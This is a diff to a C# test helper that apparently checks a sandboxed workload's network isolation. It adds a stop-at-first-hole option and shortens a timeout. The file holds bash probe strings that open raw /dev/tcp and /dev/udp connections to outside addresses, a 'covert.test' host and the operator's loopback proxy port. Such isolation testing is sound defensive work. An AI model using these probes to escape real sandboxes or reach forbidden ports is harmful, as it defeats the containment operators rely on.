@@ -32,11 +32,17 @@ internal static class WorkloadAttack
     /// <param name="world">What lies behind it.</param>
     /// <param name="user">The user that it runs as.</param>
     /// <param name="operatorsPort">A port of the proxy on loopback that is none of the workload's business.</param>
-    public static async Task<IReadOnlyList<string>> RunAsync(NetworkNamespace host, OutsideWorld world, string user, int operatorsPort)
+    /// <param name="stopAtFirst">Whether one hole is enough to know.</param>
+    public static async Task<IReadOnlyList<string>> RunAsync(NetworkNamespace host, OutsideWorld world, string user, int operatorsPort, bool stopAtFirst)
     {
         var holes = new List<string>();
         foreach (var attempt in Attempts(operatorsPort))
         {
+            if (stopAtFirst && holes.Count > 0)
+            {
+                break;
+            }
+
             var before = world.Arrivals.Count;
             var (exit, output, _) = await host.RunAsync(user, "timeout", "3", "bash", "-c", attempt.Script);
             var arrived = world.Arrivals.Skip(before).ToArray();
@@ -75,7 +81,7 @@ internal static class WorkloadAttack
         yield return new("the proxy's metrics over IPv6", $"exec 3<>/dev/tcp/::1/{operatorsPort}", SuccessIsAHole: true);
     }
 
-    private static string Tcp(string address, int port) => $"exec 3<>/dev/tcp/{address}/{port} && printf 'GET / HTTP/1.1\\r\\nHost: covert.test\\r\\n\\r\\n' >&3 && read -r -t 1 line <&3";
+    private static string Tcp(string address, int port) => $"exec 3<>/dev/tcp/{address}/{port} && printf 'GET / HTTP/1.1\\r\\nHost: covert.test\\r\\n\\r\\n' >&3 && read -r -t 0.3 line <&3";
 
     private static string Udp(string address, int port) => $"echo covert > /dev/udp/{address}/{port}; sleep 0.05";
 
